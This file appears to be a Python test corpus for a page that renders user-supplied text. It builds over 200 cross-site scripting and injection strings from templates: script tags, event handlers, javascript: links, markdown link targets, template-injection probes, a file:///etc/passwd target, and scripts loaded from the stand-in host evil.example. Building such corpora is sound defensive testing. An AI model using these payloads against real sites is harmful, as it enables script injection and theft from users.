"""Hostile texts, made from templates of attacks on pages that show text of others."""

from itertools import product
from typing import Final

_CODE: Final = "window.hit=1"
_HOST: Final = "//evil.example/x"

_ELEMENTS: Final = [
    f"<script>{_CODE}</script>",
    f"<script src={_HOST}></script>",
    f"<img src=x onerror={_CODE}>",
    f"<img src={_HOST}>",
    f"<svg onload={_CODE}>",
    f"<svg><animate onbegin={_CODE} attributeName=x></svg>",
    f"<math><mtext><img src=x onerror={_CODE}></mtext></math>",
    f"<iframe src=javascript:{_CODE}></iframe>",
    f"<iframe srcdoc='<script>{_CODE}</script>'></iframe>",
    f"<object data={_HOST}></object>",
    f"<embed src={_HOST}>",
    f"<video src={_HOST} onerror={_CODE}></video>",
    f"<link rel=stylesheet href={_HOST}>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href={_HOST}>",
    f"<style>@import '{_HOST}'</style>",
    f"<div style=background:url({_HOST})>",
    f"<form action={_HOST}><button>x</button></form>",
    f"<a href=javascript:{_CODE}>x</a>",
    f"<details open ontoggle={_CODE}>",
    f"<body onload={_CODE}>",
    f"<input autofocus onfocus={_CODE}>",
    f"<template><script>{_CODE}</script></template>",
    f"<div hx-get={_HOST} hx-trigger=load>",
    f"<div hx-on:load={_CODE}>",
]
_WRAPPERS: Final = [
    "{}",
    "</p></div></pre></code>{}",
    '">{}',
    "`{}`",
    "```\n{}\n```",
    "<!-- -->{}",
]
_TARGETS: Final = [
    f"javascript:{_CODE}",
    f"JaVaScRiPt:{_CODE}",
    f"java\tscript:{_CODE}",
    f"&#106;avascript:{_CODE}",
    f"data:text/html,<script>{_CODE}</script>",
    f"vbscript:{_CODE}",
    _HOST,
    "\\\\evil.example\\x",
    "http:///evil.example",
    "https:\\evil.example",
    "file:///etc/passwd",
    "/view/deletions",
    "../../x",
    "#x",
]
_LINKS: Final = ["[x]({})", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}"]
_OTHERS: Final = [
    "\x1b]8;;javascript:window.hit=1\x07x\x1b]8;;\x07",
    "\x1b[31m<b>red</b>\x1b[0m",
    "\u202e<script>x</script>",
    "\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "{{ 7 * 7 }}{% raw %}",
    "{{ request.app }}",
    "[" * 500,
    "*" * 500,
    "![" * 200,
    "> " * 100 + "x",
    "| a |\n|---|\n" + "| b |\n" * 50,
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
]
PAYLOADS: Final = [
    *(wrapper.format(element) for element, wrapper in product(_ELEMENTS, _WRAPPERS)),
    *(link.format(target) for target, link in product(_TARGETS, _LINKS)),
    *_OTHERS,
]
"""More than 200 hostile texts."""
